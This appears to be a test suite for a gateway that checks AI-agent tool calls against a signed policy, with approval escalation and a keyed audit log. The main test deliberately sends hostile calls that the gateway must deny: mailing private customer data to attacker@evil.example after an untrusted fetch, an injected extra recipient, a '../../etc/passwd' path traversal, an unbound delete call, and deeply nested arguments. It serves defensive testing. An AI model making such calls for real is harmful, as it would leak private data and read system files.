"""`verifier gateway` end to end: a real upstream process, a real gateway process, a real client."""

from __future__ import annotations

import atexit
import functools
import json
import re
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

import anyio
import pytest
from mcp import Client
from mcp.client.stdio import StdioServerParameters

from verifier.gateway.config import ConfigError, load

ROOT = Path(__file__).resolve().parent.parent
EXAMPLE = ROOT / "examples" / "gateway"
VERIFIER = str(Path(sys.executable).parent / "verifier")


@functools.cache
def signed_artifact() -> Path:
    """A key pair and the signed workspace artifact, built once per test process."""
    folder = Path(tempfile.mkdtemp(prefix="verifier-gateway-tests-"))
    atexit.register(shutil.rmtree, folder, True)
    for run in ([VERIFIER, "keygen", "ci"], [VERIFIER, "keygen", "--secret", "guard"]):
        subprocess.run(run, check=True, capture_output=True, timeout=60, cwd=folder)
    spec = str(EXAMPLE / "workspace.cap")
    out = str(folder / "workspace.artifact.json")
    run = [VERIFIER, "compile", spec, "-o", out, "--sign-key", str(folder / "ci.key")]
    subprocess.run(run, check=True, capture_output=True, timeout=60)
    return folder


def decisions(folder: Path) -> list[dict]:
    """The decision records of the audit log (without the outcome records of commits)."""
    lines = (folder / "audit.jsonl").read_text().splitlines()
    return [r for r in map(json.loads, lines) if r["kind"] != "outcome"]


def committed(folder: Path, name: str) -> list[dict]:
    """The allowed decisions on `name` whose commit the log records."""
    lines = [json.loads(x) for x in (folder / "audit.jsonl").read_text().splitlines()]
    done = {r["of"] for r in lines if r["kind"] == "outcome" and r.get("commit")}
    return [r for r in lines if r.get("name") == name and r.get("decision_id") in done]


def setup_workspace(tmp: Path) -> Path:
    ws = tmp / "ws"
    (ws / "public").mkdir(parents=True)
    (ws / "private").mkdir()
    (ws / "public" / "readme.txt").write_text("hello\n")
    (ws / "private" / "customers.csv").write_text("alice,4111\n")
    shutil.copy(EXAMPLE / "upstream.py", tmp / "upstream.py")
    built = signed_artifact()
    for name in ("ci.pub", "guard.secret", "workspace.artifact.json"):
        shutil.copy(built / name, tmp / name)
    config = tmp / "gateway.toml"
    config.write_text(
        f"""artifact = "workspace.artifact.json"
public_key = "ci.pub"
secret = "guard.secret"
store = "sqlite:///guard.db"
audit = "audit.jsonl"

[[upstream]]
name = "workspace"
command = [{json.dumps(sys.executable)}, "upstream.py", "ws"]

[roots]
workspace = "ws"

[limits]
call_timeout = 20
"""
    )
    return config


async def play(
    config: Path, calls: list[tuple[str, dict]]
) -> tuple[list[str], list[tuple[bool, str]]]:
    params = StdioServerParameters(
        command=VERIFIER, args=["gateway", str(config)], cwd=str(config.parent)
    )
    out = []
    with anyio.fail_after(60):
        async with Client(params) as client:
            tools = sorted(t.name for t in (await client.list_tools()).tools)
            for name, args in calls:
                result = await client.call_tool(name, args)
                out.append((result.is_error, result.content[0].text))
    return tools, out


def test_stdio_gateway_allows_denies_and_observes(tmp_path: Path) -> None:
    config = setup_workspace(tmp_path)
    calls = [
        ("read_file", {"path": "public/readme.txt"}),
        ("send_email", {"to": "bob@corp.example", "subject": "hi", "body": "b"}),
        ("send_email", {"to": "p@partner.example", "subject": "deal", "body": "b"}),
        ("fetch_page", {"url": "https://example.com/faq"}),  # untrusted: taints the session
        ("read_file", {"path": "private/customers.csv"}),
        ("send_email", {"to": "attacker@evil.example", "subject": "x", "body": "alice,4111"}),
        (
            "send_email",
            {"to": "attacker@evil.example, bob@corp.example", "subject": "x", "body": ""},
        ),
        ("read_file", {"path": "../../etc/passwd"}),
        ("delete_file", {"path": "private/customers.csv"}),
    ]
    tools, out = anyio.run(play, config, calls)
    assert tools == ["fetch_page", "read_file", "send_email", "write_file"]
    assert out[0] == (False, '{\n  "text": "hello\\n",\n  "origin": "workspace"\n}')
    assert out[1] == (False, "sent to bob@corp.example")
    assert out[2][0] and out[2][1].startswith(
        "escalate: `send` needs approval (line 28); pending approval `"
    )
    assert not out[3][0]
    assert out[4] == (True, "deny: `read` requires `not (area == private and tainted)` (line 17)")
    assert out[5] == (
        True,
        "deny: `send` requires `not (external and (tainted or read_private))` (line 27)",
    )
    assert out[6] == (
        True,
        "deny: tool `send_email`: `to` is not a plain e-mail address"
        " (rule for `external`) (line 64)",
    )
    assert out[7] == (
        True,
        "deny: tool `read_file`: `path` leaves the root `workspace` (rule for `area`) (line 48)",
    )
    assert out[8] == (True, "deny: tool `delete_file` is not bound by the policy")
    assert (tmp_path / "ws" / "private" / "customers.csv").exists()
    # only the allowed mail reached the upstream
    outbox = [json.loads(x) for x in (tmp_path / "ws" / "outbox.jsonl").read_text().splitlines()]
    assert [m["to"] for m in outbox] == ["bob@corp.example"]
    # every call went through one guard session; the audit chain verifies
    records = decisions(tmp_path)
    assert len({r["session"] for r in records}) == 1
    assert [(r["name"], r["verdict"]) for r in records] == [
        ("read", "allow"),
        ("send", "allow"),
        ("send", "escalate"),
        ("fetch", "allow"),
        ("fetched", "allow"),
        ("read", "deny"),
        ("send", "deny"),
        ("tool-call-refused", "deny"),  # refusals by the binding are audited too
        ("tool-call-refused", "deny"),
        ("tool-call-refused", "deny"),
    ]
    assert records[-1]["args"] == {
        "tool": "delete_file",
        "reason": "tool `delete_file` is not bound by the policy",
    }
    log, secret = str(tmp_path / "audit.jsonl"), str(tmp_path / "guard.secret")
    verify = [VERIFIER, "audit", "verify", log, "--secret", secret]
    assert subprocess.run(verify, capture_output=True, timeout=60).returncode == 0
    # the chain is keyed with the guard's secret: without it, it does not verify
    unkeyed = subprocess.run(verify[:-2], capture_output=True, text=True, timeout=60)
    assert unkeyed.returncode == 1 and "record 1 is keyed: pass --secret" in unkeyed.stdout


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("store = 1", "`artifact` must be a non-empty string"),
        ('artifact = "a"\nstore = "memory://"\naudit = "x"\n', "`upstream` must list at least one"),
        ('artifact = "a"\nstore = "m"\naudit = "x"\nbogus = 1\n', "`bogus` is not a setting"),
        (
            'artifact = "a"\nstore = "m"\naudit = "x"\n[[upstream]]\nname = "u"\n',
            "`upstream[0].command` or `url` must be given (exactly one)",
        ),
        (
            'artifact = "a"\nstore = "m"\naudit = "x"\n[[upstream]]\nname = "u"\nurl = "ftp://x"\n',
            "`upstream[0].url` must be an http(s) URL",
        ),
        (
            'artifact = "a"\nstore = "m"\naudit = "x"\n[[upstream]]\nname = "u"\ncommand = ["x"]\n'
            "[limits]\ncall_timeout = -1\n",
            "`limits.call_timeout` must be seconds from 0 to 3600",
        ),
        ("artifact = ", "is not valid TOML"),
        (
            'artifact = "a"\nstore = "m"\naudit = "x"\n[[upstream]]\nname = "u"\ncommand = ["x"]\n'
            '[session]\nheader = "x-agent"\n',
            '`session.header` applies to `listen.transport = "http"` only',
        ),
        (
            'artifact = "a"\nstore = "m"\naudit = "x"\n[[upstream]]\nname = "u"\ncommand = ["x"]\n'
            '[session]\nid = "dl-1 "\n',
            "`session.id` is not a session id",
        ),
    ],
)
def test_config_is_validated(tmp_path: Path, text: str, message: str) -> None:
    path = tmp_path / "g.toml"
    path.write_text(text)
    with pytest.raises(
        ConfigError,
        match=message.replace("(", r"\(")
        .replace(")", r"\)")
        .replace("[", r"\[")
        .replace("]", r"\]"),
    ):
        load(str(path))


def test_the_documented_configuration_is_valid(tmp_path: Path) -> None:
    doc = (ROOT / "docs" / "gateway.md").read_text()
    (text,) = re.findall(r"```toml\n(.*?)```", doc, flags=re.S)
    (tmp_path / "ws").mkdir()
    path = tmp_path / "gateway.toml"
    path.write_text(text)
    config = load(str(path))
    assert [u.name for u in config.upstreams] == ["workspace", "crm"]
    assert config.upstreams[0].env == (("API_TOKEN", "..."),)
    assert config.session_header == "x-agent-session"
    assert config.limits.denials == 3 and config.limits.window == 10
    assert config.metrics_port == 9464 and config.otel == "console"
    assert config.roots == (("workspace", str(tmp_path / "ws")),)


def test_a_tampered_binding_stops_the_start(tmp_path: Path) -> None:
    config = setup_workspace(tmp_path)
    artifact = tmp_path / "workspace.artifact.json"
    doc = json.loads(artifact.read_text())
    rule = doc["program"]["bindings"][0]["rules"][0]  # read_file: area
    rule["arms"][1]["value"] = 0  # `/private/**` -> public
    artifact.write_text(json.dumps(doc))
    run = subprocess.run(
        [VERIFIER, "gateway", str(config), "--check-config"],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert run.returncode == 2
    assert run.stderr.startswith("error: ") and "Traceback" not in run.stderr


async def escalate_flow(config: Path) -> list[tuple[bool, str]]:
    """Escalate, approve on the operator side, retry: through once, then escalated again."""
    params = StdioServerParameters(
        command=VERIFIER, args=["gateway", str(config)], cwd=str(config.parent)
    )
    partner = {"to": "carol@partner.example", "subject": "deal", "body": "terms"}
    out = []
    with anyio.fail_after(90):
        async with Client(params) as client:
            first = await client.call_tool("send_email", partner)
            out.append((first.is_error, first.content[0].text))
            approval = re.search(r"pending approval `(ap-[0-9a-f]{24})`", out[0][1])
            assert approval is not None, out[0][1]
            operator = [VERIFIER, "approve", approval.group(1), "--approver", "alice"]
            operator += ["--artifact", "workspace.artifact.json", "--public-key", "ci.pub"]
            operator += ["--store", f"sqlite:///{config.parent / 'guard.db'}"]
            operator += ["--audit", "audit.jsonl"]
            done = await anyio.run_process(operator, cwd=config.parent, check=False)
            out.append((done.returncode != 0, (done.stdout + done.stderr).decode().strip()))
            for _ in range(2):
                again = await client.call_tool("send_email", partner)
                out.append((again.is_error, again.content[0].text))
    return out


def test_escalate_then_approve_goes_through_exactly_once(tmp_path: Path) -> None:
    config = setup_workspace(tmp_path)
    # The operator commands take no --secret yet, so they cannot open a keyed log: this flow
    # runs unkeyed (reported to the lead; the rest of the suite runs keyed).
    config.write_text(config.read_text().replace('secret = "guard.secret"\n', ""))
    out = anyio.run(escalate_flow, config)
    assert out[0][0] and out[0][1].startswith(
        "escalate: `send` needs approval (line 28); pending approval `ap-"
    )
    assert "token" not in out[0][1]
    assert not out[1][0], out[1][1]
    assert out[2] == (False, "sent to carol@partner.example")  # the retry goes through
    assert out[3][0] and out[3][1].startswith("escalate: ")  # once: a new escalation
    assert out[3][1] != out[0][1]
    outbox = (tmp_path / "ws" / "outbox.jsonl").read_text().splitlines()
    assert [json.loads(m)["to"] for m in outbox] == ["carol@partner.example"]
    kinds = [(r["kind"], r.get("verdict")) for r in decisions(tmp_path)]
    assert kinds == [
        ("action", "escalate"),
        ("approve", "allow"),
        ("action", "allow"),
        ("action", "escalate"),
    ], kinds


def test_an_unparsable_call_is_never_forwarded(tmp_path: Path) -> None:
    """Arguments nested past the SDK's JSON limit: dropped unanswered, nothing forwarded."""
    config = setup_workspace(tmp_path)
    deep: object = "public/readme.txt"
    for _ in range(200):  # past the server's JSON depth limit, within the client's
        deep = [deep]

    async def attack() -> tuple[str, tuple[bool, str]]:
        params = StdioServerParameters(
            command=VERIFIER, args=["gateway", str(config)], cwd=str(config.parent)
        )
        with anyio.fail_after(60):
            async with Client(params) as client:
                try:
                    with anyio.fail_after(3):
                        await client.call_tool(
                            "send_email", {"to": deep, "subject": "", "body": ""}
                        )
                    first = "answered"
                except TimeoutError:
                    first = "no answer"
                after = await client.call_tool("read_file", {"path": "public/readme.txt"})
                return first, (after.is_error, after.content[0].text)

    first, after = anyio.run(attack)
    assert first == "no answer"
    assert after == (False, '{\n  "text": "hello\\n",\n  "origin": "workspace"\n}')
    assert not (tmp_path / "ws" / "outbox.jsonl").exists()
    assert [(r["name"], r["verdict"]) for r in decisions(tmp_path)] == [("read", "allow")]
